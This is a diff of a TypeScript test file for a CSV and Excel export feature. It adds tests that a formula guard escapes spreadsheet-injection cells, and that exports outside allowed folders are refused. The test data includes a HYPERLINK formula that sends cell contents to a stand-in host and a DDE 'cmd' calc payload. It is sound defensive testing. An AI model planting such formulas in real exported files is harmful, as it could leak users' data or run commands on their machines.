@@ -7,6 +7,8 @@ import Database from 'better-sqlite3';
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { makeExportToFile, type FileExportDeps, type FileExportOptions } from '../../activities/export-to-file';
+import { failPermanentErrors } from '../../activities/non-retryable';
+import { gateRun } from '../../activities/run-gate';
 import { loadConfig, type AppConfig } from '../../core/config';
 import type { ExportActivityInput, ExportResult } from '../../core/job';
 import type { FileConfig, SchedulingInput } from '../../core/scheduling';
@@ -154,6 +156,75 @@ describe('CSV and Excel export activity on a real SQLite database', () => {
     expect(path.basename(file!)).toBe('plain.csv');
     expect(text.startsWith('\ufeff1;customer-')).toBe(true);
     expect(parse(text, { delimiter: ';', bom: true })).toEqual(expected);
+  });
+
+  describe('formula guard', () => {
+    // [as stored, as a guarded CSV reads back]: cells a spreadsheet would run as formulas, and neighbours that must stay.
+    const CELLS: [string, string][] = [
+      ['=HYPERLINK("http://x.test/?"&A1,"open")', `'=HYPERLINK("http://x.test/?"&A1,"open")`],
+      ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
+      ['-2+3', "'-2+3"],
+      ['@SUM(1,2)', "'@SUM(1,2)"],
+      ['\t=1+1', "'\t=1+1"],
+      ['\r=1+1', "'\r=1+1"],
+      ['-12.50', '-12.50'],
+      ['+3e5', '+3e5'],
+      ['a=b', 'a=b'],
+      ['', ''],
+    ];
+    /** A SQLite expression for a text: quotes doubled, tab and CR as char(). */
+    const sqlText = (value: string) =>
+      `'${value.replace(/'/g, "''").replace(/\t/g, "' || char(9) || '").replace(/\r/g, "' || char(13) || '")}'`;
+    const values = CELLS.map(([stored], i) => `(${i}, ${sqlText(stored)}, -5)`).join(', ');
+    const query = `SELECT column1 AS id, column2 AS "=cell", column3 AS n FROM (VALUES ${values}) ORDER BY id`;
+
+    it('is on by default for CSV: text cells starting like a formula, the header too, read back with a leading quote', async () => {
+      const { input: activityInput } = input('csv', {}, { query });
+      const { file } = await run(activityInput);
+      expect(parse(fs.readFileSync(file!, 'utf8'))).toEqual([
+        ['id', "'=cell", 'n'],
+        ...CELLS.map(([, guarded], i) => [String(i), guarded, '-5']),
+      ]);
+    });
+
+    it('with formula_guard: false, writes every cell verbatim', async () => {
+      const { input: activityInput } = input('csv', { formula_guard: false }, { query });
+      const { file } = await run(activityInput);
+      expect(parse(fs.readFileSync(file!, 'utf8'))).toEqual([
+        ['id', '=cell', 'n'],
+        ...CELLS.map(([stored], i) => [String(i), stored, '-5']),
+      ]);
+    });
+
+    it('is not needed for Excel: a text cell starting with "=" is stored as text, not as a formula', async () => {
+      const { input: activityInput } = input('excel', {}, { query });
+      const { file } = await run(activityInput);
+      const sheet = (await readXlsx(file!)).worksheets[0]!;
+      const cell = sheet.getRow(2).getCell(2);
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.value).toBe(CELLS[0]![0]);
+      expect(sheet.getRow(1).getCell(2).value).toBe('=cell');
+    });
+  });
+
+  it("refuses, before opening the source, a folder outside files.allowed_roots (the worker's gate on each attempt)", async () => {
+    const sources = new WrappedSources(config);
+    registries.push(sources);
+    const deps: FileExportDeps = { config: { ...config, files: { allowed_roots: [path.join(baseDir, 'allowed')] } }, sources };
+    const exportFile = failPermanentErrors(gateRun(deps, makeExportToFile(deps)));
+    const { input: outside, outputDir } = input('csv');
+    await expect(quietEnvironment().run(exportFile, outside)).rejects.toMatchObject({
+      type: 'SchedulingRefusedError',
+      nonRetryable: true,
+      message: expect.stringContaining('file_config.output_dir: must lie under one of files.allowed_roots') as string,
+    });
+    expect(sources.opened).toEqual([]);
+    expect(fs.existsSync(outputDir)).toBe(false);
+
+    const { input: allowed } = input('csv', { output_dir: 'allowed/daily' });
+    const result: ExportResult = await quietEnvironment().run(exportFile, allowed);
+    const { file } = result;
+    expect(path.dirname(file!)).toBe(path.join(baseDir, 'allowed', 'daily'));
   });
 
   it('binds :scheduled_time and the scheduling params in the query', async () => {
